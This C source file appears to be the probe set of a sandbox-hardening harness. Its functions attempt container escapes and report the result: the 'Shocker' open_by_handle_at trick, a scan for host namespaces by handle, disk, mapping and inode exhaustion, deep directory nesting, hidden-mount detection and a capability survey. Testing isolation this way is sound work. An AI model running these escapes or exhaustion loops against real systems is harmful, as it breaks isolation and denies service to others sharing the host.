/* files.c - attacks on files, mounts and memory. */
#include "payload.h"

#include <linux/capability.h>
#include <sys/stat.h>

/* ---- files ---------------------------------------------------------- */

int open_file(char **args)
{
	return say(open(args[0], (int)number(args[1]), 0600));
}

/* The contents of a file, or the errno. */
int read_file(char **args)
{
	char text[256];
	int fd = open(args[0], O_RDONLY | O_NONBLOCK);
	ssize_t length = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
	if (length < 0)
		return say(-1);
	text[length] = '\0';
	fputs(length ? text : "empty", stdout);
	return 0;
}

/* Write until it fails: "ERRNO MEBIBYTES". */
int fill_bytes(char **args)
{
	static char block[1 << 20];
	long written = 0;
	ssize_t last;
	int fd = open(args[0], O_WRONLY | O_CREAT, 0600);

	memset(block, 'x', sizeof block);
	while ((last = write(fd, block, sizeof block)) > 0)
		written += last;
	printf("%s %ld\n", outcome(last), written >> 20);
	return 0;
}

/* The same through a mapping of a sparse file: the kernel can only say so by a signal. */
int fill_mapping(char **args)
{
	int fd = open(args[0], O_RDWR | O_CREAT, 0600);
	size_t size = 1UL << 34;
	if (fd < 0 || ftruncate(fd, (off_t)size) < 0)
		return say(-1);
	char *memory = (char *)syscall(SYS_mmap, 0, size, 3, 1 /* MAP_SHARED */, fd, 0);
	for (size_t at = 0; at < size; at += 4096)
		memory[at] = 1;
	puts("ok");
	return 0;
}

int fill_inodes(char **args)
{
	char name[256];
	long made = 0;
	int fd;

	do {
		snprintf(name, sizeof name, "%s/%ld", args[0], made);
		fd = open(name, O_WRONLY | O_CREAT, 0600);
		made += fd >= 0;
	} while (fd >= 0 && close(fd) == 0);
	printf("%s %ld\n", outcome(fd), made);
	return 0;
}

int deep_directories(char **args)
{
	char name[256];
	long made = 0, result = chdir(args[0]);

	memset(name, 'd', 255);
	name[255] = '\0';
	while (result == 0 && made < number(args[1])) {
		result = mkdir(name, 0700);
		if (result == 0)
			result = chdir(name);
		made += result == 0;
	}
	printf("%s %ld\n", outcome(result), made);
	return 0;
}

/* "Shocker": files of a whole file system by their handles, beside all paths. */
int by_handle(char **args)
{
	struct {
		unsigned size;
		int type;
		unsigned char bytes[128];
	} handle = { .size = 8, .type = 1, .bytes = { 2 } }; /* ext4: inode 2, the root directory */
	int mount = open(args[0], O_RDONLY | O_DIRECTORY);
	return say(syscall(SYS_open_by_handle_at, mount, &handle, O_RDONLY));
}

/* The same for the namespaces of the host, whose identities are the same on every machine. */
int namespace_by_handle(char **args)
{
	static const struct {
		uint32_t inode, type;
	} first[] = { { 0xEFFFFFFD, CLONE_NEWUSER }, { 0xEFFFFFFC, CLONE_NEWPID },
		      { 0xEFFFFFFE, CLONE_NEWUTS },  { 0xEFFFFFFF, CLONE_NEWIPC },
		      { 0xEFFFFFF9, CLONE_NEWNET },  { 0xEFFFFFF8, CLONE_NEWNS } };
	struct {
		unsigned size;
		int type;
		uint64_t id;
		uint32_t kind, inode;
	} handle = { .size = 16, .type = 241 }; /* FILEID_NSFS, Linux 6.18 */

	(void)args;
	for (size_t i = 0; i < sizeof first / sizeof *first; i++)
		for (handle.id = 1; handle.id < 32; handle.id++) {
			handle.kind = first[i].type;
			handle.inode = first[i].inode;
			if (syscall(SYS_open_by_handle_at, -10003 /* FD_NSFS_ROOT */, &handle, 0) >=
			    0)
				return printf("ok %x\n", first[i].type) < 0;
		}
	return say(-1);
}

/* Mounts that listmount(2) shows and that mountinfo does not. */
int list_mounts(char **args)
{
	struct {
		uint32_t size, spare;
		uint64_t mount, parameter;
	} request = { .size = 24, .mount = UINT64_MAX /* LSMT_ROOT */ };
	uint64_t ids[512];
	char line[4096];
	long lines = 1; /* the root's own mount is not below itself */

	(void)args;
	long listed = syscall(LISTMOUNT, &request, ids, 512, 0);
	if (listed < 0)
		return say(-1);
	FILE *table = fopen("/proc/self/mountinfo", "re");
	while (table && fgets(line, sizeof line, table))
		lines++;
	puts(listed <= lines ? "none" : "more");
	return 0;
}

/* ---- a look around -------------------------------------------------- */

/* Is the parent of "/" another directory than "/"? */
static int root_has_a_parent(void)
{
	struct stat root, parent;
	return stat("/", &root) || stat("/..", &parent) || root.st_dev != parent.st_dev ||
	       root.st_ino != parent.st_ino;
}

/* "NAME VALUE" lines: who the payload is, and what comes of an attempt to write to each path. */
int survey(char **args)
{
	struct __user_cap_header_struct header = { .version = _LINUX_CAPABILITY_VERSION_3 };
	struct __user_cap_data_struct data[2] = { { 0 } };
	int extra = 0;

	for (int fd = 3; fd < 4096; fd++)
		extra += fcntl(fd, F_GETFD) >= 0;
	syscall(SYS_capget, &header, data);
	printf("descriptors %d\n", extra);
	printf("capabilities %x\n", data[0].effective | data[0].permitted | data[0].inheritable);
	printf("no_new_privs %d\n", prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0));
	printf("ids %u:%u\n", getuid(), getgid());
	printf("above %d\n", root_has_a_parent());
	for (; *args; args++)
		printf("%s %s\n", *args, outcome(open(*args, O_WRONLY | O_CREAT, 0600)));
	return 0;
}
